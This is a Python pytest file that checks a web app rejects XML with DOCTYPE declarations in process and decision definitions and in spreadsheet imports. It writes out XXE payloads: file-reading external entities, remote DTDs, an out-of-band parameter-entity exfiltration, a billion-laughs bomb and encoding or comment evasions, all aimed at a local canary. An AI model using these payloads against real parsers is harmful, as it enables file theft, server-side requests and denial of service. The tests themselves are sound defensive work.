"""No document type, no entity: refused wherever XML comes in, and nothing outside is read or asked."""

import time
import urllib.request
import zipfile
from io import BytesIO
from pathlib import Path

import pytest

from app import definitions
from app.casework.asked import Asked
from app.clock import now
from app.config import ROOT
from app.db import reading
from app.people import SYSTEM
from app.registry.imports import import_penalties, rehearse_penalties
from app.registry.sheets import SheetBroken
from tests.registry.builders import a_row, an_xlsx
from tests.safety.canary import a_canary
from tests.web.builders import Browser, Program, a_told_office, an_office

SECRET = "the secret beside the database"
BODIES = {
    "process": ("credit_repair", ROOT / "bpmn/processes/credit_repair.bpmn"),
    "decision": ("repair_admission", ROOT / "bpmn/decisions/repair_admission.dmn"),
}
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
PROLOGS = {
    "an empty type": "<!DOCTYPE definitions>",
    "an inner entity": '<!DOCTYPE d [<!ENTITY e "x">]>',
    "a file": '<!DOCTYPE d [<!ENTITY e SYSTEM "file://{secret}">]>',
    "an address": '<!DOCTYPE d [<!ENTITY e SYSTEM "{canary}/entity">]>',
    "an outer type": '<!DOCTYPE d SYSTEM "{canary}/type.dtd">',
    "a public type": '<!DOCTYPE d PUBLIC "-//X//Y" "{canary}/public.dtd">',
    "a parameter": '<!DOCTYPE d [<!ENTITY % p SYSTEM "{canary}/parameter"> %p;]>',
    "a file sent away": '<!DOCTYPE d [<!ENTITY % f SYSTEM "file://{secret}">'
    "<!ENTITY % s \"<!ENTITY e SYSTEM '{canary}/sent?%f;'>\"> %s;]>",
    "a billion laughs": f'<!DOCTYPE d [<!ENTITY l0 "ha">{LAUGHS}<!ENTITY e "&l9;">]>',
    "after a long comment": "<!--" + "x" * 150_000 + '--><!DOCTYPE d [<!ENTITY e SYSTEM "{canary}/late">]>',
}
PATIENCE = 5.0


@pytest.fixture
def canary():
    with a_canary() as listening:
        yield listening


@pytest.fixture
def secret(tmp_path):
    file = tmp_path / "secret.txt"
    file.write_text(SECRET, "utf-8")
    return file


def forged(xml: str, prolog: str) -> str:
    """The document with the prolog, and with its entity in the first name."""
    declared, _, rest = xml.partition("?>")
    return declared + "?>" + prolog + rest.replace('name="', 'name="&e;', 1)


@pytest.fixture
def designer(database, tmp_path, office_clock):
    return Program(a_told_office(database, tmp_path, office_clock), "designer")


@pytest.mark.parametrize("kind", BODIES)
def test_no_published_document_may_have_a_type(designer, canary, secret, kind):
    key, file = BODIES[kind]
    before = versions(kind, key)
    told = {}

    for name, prolog in PROLOGS.items():
        hostile = prolog.format(canary=canary.address, secret=secret)
        begun = time.monotonic()
        answer = designer.post(
            f"/definitions/{kind}/{key}", {"body": forged(file.read_text("utf-8"), hostile)}
        )
        codes = {finding["code"] for finding in answer.json["findings"]}
        told[name] = (answer.status_code, codes, SECRET in answer.text)
        assert time.monotonic() - begun < PATIENCE

    doctype = {"process": "diagram_doctype", "decision": "decision_doctype"}[kind]
    assert told == {name: (400, {doctype}, False) for name in PROLOGS}
    assert versions(kind, key) == before
    assert canary.hits == []


@pytest.mark.parametrize("kind", BODIES)
def test_a_draft_with_a_type_is_told_of_and_not_published(sqlite_only, tmp_path, office_clock, canary, kind):
    office = a_told_office(sqlite_only, tmp_path, office_clock)
    browser = Browser(office).enter("designer")
    key, file = BODIES[kind]
    before, headers = versions(kind, key), {"X-CSRFToken": browser.token("/password")}
    body = forged(file.read_text("utf-8"), PROLOGS["a parameter"].format(canary=canary.address))

    def send(act, given):
        return browser.client.post(f"/studio/{kind}/{key}/{act}.json", json=given, headers=headers)

    checked = send("check", {"body": body, "revision": 0})
    kept = send("draft", {"body": body, "revision": 0})
    published = send("publish", {"revision": 1, "note": "", "effective_from": None})
    shown = browser.get(f"/studio/{kind}/{key}")

    assert [finding["code"][-8:] for finding in checked.json["findings"]] == ["_doctype"]
    assert (kept.status_code, published.status_code, shown.status_code) == (200, 400, 200)
    assert (versions(kind, key), canary.hits) == (before, [])


@pytest.mark.parametrize("kind", BODIES)
@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7"])
def test_no_encoding_hides_a_type(sqlite_only, tmp_path, kind, encoding, canary):
    an_office(sqlite_only, tmp_path)
    key, file = BODIES[kind]
    prolog = PROLOGS["an address"].format(canary=canary.address)
    said = file.read_text("utf-8").replace("UTF-8", encoding.upper(), 1)

    with reading() as session:
        findings = definitions.check(session, kind, key, forged(said, prolog).encode(encoding))

    assert [finding.severity for finding in findings] == ["error"]
    assert canary.hits == []


@pytest.mark.parametrize("include", ["xi:include", "xsi:schemaLocation", "xml-stylesheet"])
@pytest.mark.parametrize("kind", BODIES)
def test_nothing_a_document_points_to_is_fetched(designer, canary, secret, kind, include):
    key, file = BODIES[kind]
    xml = file.read_text("utf-8")
    pointing = {
        "xi:include": xml.replace(
            "</definitions>",
            f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{secret}" parse="text"/>'
            "</definitions>",
        ).replace(
            "</bpmn:definitions>",
            f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{canary.address}/included"/>'
            "</bpmn:definitions>",
        ),
        "xsi:schemaLocation": xml.replace(
            "efinitions ",
            'efinitions xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
            f'xsi:schemaLocation="urn:x {canary.address}/schema.xsd" ',
            1,
        ),
        "xml-stylesheet": xml.replace(
            "?>", f'?><?xml-stylesheet type="text/xsl" href="{canary.address}/style.xsl"?>', 1
        ),
    }[include]
    assert pointing != xml

    answer = designer.post(f"/definitions/{kind}/{key}", {"body": pointing})

    assert answer.status_code in (201, 400)
    assert SECRET not in answer.text
    assert canary.hits == []


PARTS = ["[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/styles.xml"]


@pytest.mark.parametrize("part", PARTS)
@pytest.mark.parametrize("take", [rehearse_penalties, import_penalties], ids=["rehearsal", "import"])
def test_no_part_of_a_workbook_may_have_a_type(sqlite_only, canary, secret, part, take):
    arguments = () if take is rehearse_penalties else ("penalties.xlsx",)
    for name in ("a file", "an address", "an outer type", "a parameter", "a billion laughs"):
        prolog = PROLOGS[name].format(canary=canary.address, secret=secret)
        body = repacked(an_xlsx(a_row()), part, prolog)

        with pytest.raises(SheetBroken):
            take(Asked(SYSTEM, now()), *arguments, body)

    assert canary.hits == []


def test_a_part_under_another_name_is_not_read_with_its_entities(sqlite_only, canary, secret):
    prolog = PROLOGS["an address"].format(canary=canary.address)
    body = repacked(an_xlsx(a_row()), "xl/worksheets/sheet1.xml", prolog, renamed="xl/worksheets/sheet1.dat")

    with pytest.raises(SheetBroken):
        rehearse_penalties(Asked(SYSTEM, now()), body)

    assert canary.hits == []


def test_the_canary_hears_who_knocks(canary):
    urllib.request.urlopen(f"{canary.address}/knock", timeout=2).close()

    assert canary.hits == ["/knock"]


def versions(kind, key):
    with reading() as session:
        return len(definitions.history(session, kind, key))


def repacked(workbook: bytes, part: str, prolog: str, renamed: str | None = None) -> bytes:
    """The workbook with a prolog in one part, which may get a name that says nothing of XML."""
    name = renamed or part
    written = BytesIO()
    with zipfile.ZipFile(BytesIO(workbook)) as package, zipfile.ZipFile(written, "w") as forged_package:
        for one in package.namelist():
            content = package.read(one).replace(Path(part).name.encode(), Path(name).name.encode())
            if one == part:
                declared, found, rest = content.partition(b"?>")
                content = declared + found + prolog.encode() + rest if found else prolog.encode() + declared
            forged_package.writestr(name if one == part else one, content)
    return written.getvalue()
